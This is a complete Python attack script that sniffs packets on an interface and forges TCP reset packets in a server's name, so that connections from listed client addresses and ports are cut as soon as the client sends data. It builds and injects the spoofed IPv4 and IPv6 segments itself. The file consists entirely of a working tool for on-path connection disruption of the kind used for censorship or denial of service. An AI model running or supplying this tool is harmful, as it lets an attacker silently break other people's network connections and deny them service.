#!/usr/bin/env python3
"""Resets connections as somebody beside the path does it: sees a client's first payload, and sends resets in the
server's name that are not the server's, while the server's own packets go on.

usage: forge-resets.py INTERFACE LIST    LIST holds lines `CLIENT PORT`, read again for each packet"""
import random
import socket
import struct
import sys

TCP, RST, PSH, HOPS = 6, 4, 8, 40


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(source, target, sport, dport, seq):
    pseudo = source + target + struct.pack("!II" if len(source) == 16 else "!HH", TCP, 20)
    head = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, 0, 0x50, RST, 0, 0, 0)
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def packet(source, target, segment):
    if len(source) == 16:
        return struct.pack("!IHBB", 6 << 28, len(segment), TCP, HOPS) + source + target + segment
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), random.randrange(1, 65536), 0, HOPS, TCP, 0)
    return head + source + target + segment  # the kernel fills in the checksum of the header


def send(source, target, segment):
    if len(source) == 16:
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
            s.sendto(packet(source, target, segment), (socket.inet_ntop(socket.AF_INET6, target), 0))
        return
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(packet(source, target, segment), (socket.inet_ntoa(target), 0))


def parse(frame):
    """client, server, the segment; None for what is no TCP."""
    kind = frame[12:14]
    if kind == b"\x08\x00" and frame[23] == TCP:
        start = 14 + (frame[14] & 15) * 4
        end = 14 + struct.unpack("!H", frame[16:18])[0]
        return frame[26:30], frame[30:34], frame[start:end]
    if kind == b"\x86\xdd" and frame[20] == TCP:
        return frame[22:38], frame[38:54], frame[54:54 + struct.unpack("!H", frame[18:20])[0]]
    return None


def wanted(client, port, path):
    family = socket.AF_INET6 if len(client) == 16 else socket.AF_INET
    line = f"{socket.inet_ntop(family, client)} {port}"
    with open(path, encoding="ascii") as f:
        return line in f.read().splitlines()


with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as tap:
    tap.bind((sys.argv[1], 0))
    while True:
        frame, address = tap.recvfrom(65536)
        parsed = parse(frame) if address[2] != socket.PACKET_OUTGOING else None
        if parsed is None:
            continue
        client, server, segment = parsed
        sport, dport, _, ack, offset, flags = struct.unpack("!HHIIBB", segment[:14])
        if flags & PSH and len(segment) > (offset >> 4) * 4 and wanted(client, dport, sys.argv[2]):
            for beyond in (0, 1460, 4380):
                send(server, client, reset(server, client, dport, sport, ack + beyond))
